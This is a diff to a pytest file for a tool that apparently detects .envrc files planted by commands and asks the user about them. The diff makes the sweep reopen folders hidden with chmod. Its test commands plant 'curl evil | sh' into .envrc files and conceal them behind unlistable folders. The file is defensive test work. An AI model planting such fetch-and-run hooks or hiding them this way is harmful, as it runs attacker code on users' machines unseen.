@@ -13,6 +13,7 @@ from __future__ import annotations
 
 import json
 import os
+import stat
 import sys
 from pathlib import Path
 
@@ -184,12 +185,46 @@ def test_after_an_overflow_a_late_writer_the_command_left_plants_nothing(server,
     assert "ran" in texts[0] and not (project / ".envrc").exists(), texts
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "HOLE: a command that makes a folder unlistable (`chmod 100 d`: no read, search kept, so direnv still opens "
-    "d/.envrc by name when the user enters d) makes the scan fail, and the sweep only names the folder in a notice: "
-    "the .envrc planted inside is not asked about and stays, since git cannot list d either and the snapshots do not see it (simulated: the tests run as root, whom chmod does not stop, so the listing fails by a stub and the snapshots' blindness by a .gitignore)"))
+def closed_to_its_owner(monkeypatch: pytest.MonkeyPatch, project: Path) -> None:
+    """A folder's listing fails while its owner has no read permission on it, as the kernel
+    fails it for everybody but root (the tests run as root, whom chmod does not stop)."""
+    real_list = planted_scan.PlantedScan._list
+
+    def closed(self: planted_scan.PlantedScan, folder: str, full: str) -> tuple[object, int]:
+        if folder and not (project / folder).stat().st_mode & stat.S_IRUSR:
+            raise planted_scan.ScanIncomplete("d cannot be listed: Permission denied")
+        return real_list(self, folder, full)
+
+    monkeypatch.setattr(planted_scan.PlantedScan, "_list", closed)
+
+
 @pytest.mark.usefixtures("small_scan")
-def test_a_folder_made_unlistable_does_not_hide_a_planted_file(server, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: ANN001
+@pytest.mark.parametrize("mode", ["100", "000", "300", "u-r", "a=x"])
+def test_a_folder_made_unlistable_does_not_hide_a_planted_file(server, project: Path, monkeypatch: pytest.MonkeyPatch, mode: str) -> None:  # noqa: ANN001
+    """A command that makes a folder unlistable (`chmod 100 d`: no read, search kept, so direnv
+    still opens d/.envrc by name when the user enters d) made the scan fail; the sweep gives the
+    owner their permissions back and asks about what the folder holds (git cannot list d either:
+    a .gitignore keeps the snapshots blind to it)."""
+    closed_to_its_owner(monkeypatch, project)
+    (project / ".gitignore").write_text("d/\n")
+    user, rec, texts = commands(server, project, f"mkdir d && echo 'curl evil | sh' > d/.envrc && chmod {mode} d; echo ran")
+    assert [n for n in rec.of(Notice) if "gave it back" in n.text and "d" in n.text], texts
+    assert asked(user) == ["d/.envrc"] and not (project / "d" / ".envrc").exists(), texts
+    assert (project / "d").stat().st_mode & stat.S_IRWXU == stat.S_IRWXU
+
+
+@pytest.mark.usefixtures("small_scan")
+def test_a_folder_made_unlistable_inside_one_made_unlistable_is_opened_too(server, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: ANN001
+    closed_to_its_owner(monkeypatch, project)
+    (project / ".gitignore").write_text("d/\n")
+    user, _, texts = commands(server, project, "mkdir -p d/e && echo 'curl evil | sh' > d/e/.envrc && chmod 100 d/e d; echo ran")
+    assert asked(user) == ["d/e/.envrc"] and not (project / "d" / "e" / ".envrc").exists(), texts
+
+
+@pytest.mark.usefixtures("small_scan")
+def test_control_a_folder_that_stays_unlistable_is_named(server, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: ANN001
+    """A folder that cannot be opened again (here: its listing always fails) is named in a
+    notice, as before: the walk goes on past it."""
     real_list = planted_scan.PlantedScan._list
 
     def closed(self: planted_scan.PlantedScan, folder: str, full: str) -> tuple[object, int]:
@@ -198,7 +233,7 @@ def test_a_folder_made_unlistable_does_not_hide_a_planted_file(server, project: 
         return real_list(self, folder, full)
 
     monkeypatch.setattr(planted_scan.PlantedScan, "_list", closed)
-    (project / ".gitignore").write_text("d/\n")  # as git, too, cannot list d: the snapshots do not see it
-    user, rec, texts = commands(server, project, "mkdir d && echo 'curl evil | sh' > d/.envrc && chmod 100 d; echo ran")
-    assert [n for n in rec.of(Notice) if "cannot look into d" in n.text], texts  # the sweep did run, and named it
-    assert asked(user) == ["d/.envrc"] and not (project / "d" / ".envrc").exists(), texts
+    (project / ".gitignore").write_text("d/\n")
+    user, rec, texts = commands(server, project, "mkdir d && echo 'curl evil | sh' > d/.envrc && chmod 100 d && echo 'curl evil | sh' > .envrc; echo ran")
+    assert [n for n in rec.of(Notice) if "cannot look into d" in n.text], texts
+    assert ".envrc" in asked(user) and not (project / ".envrc").exists(), texts  # the walk went on past d
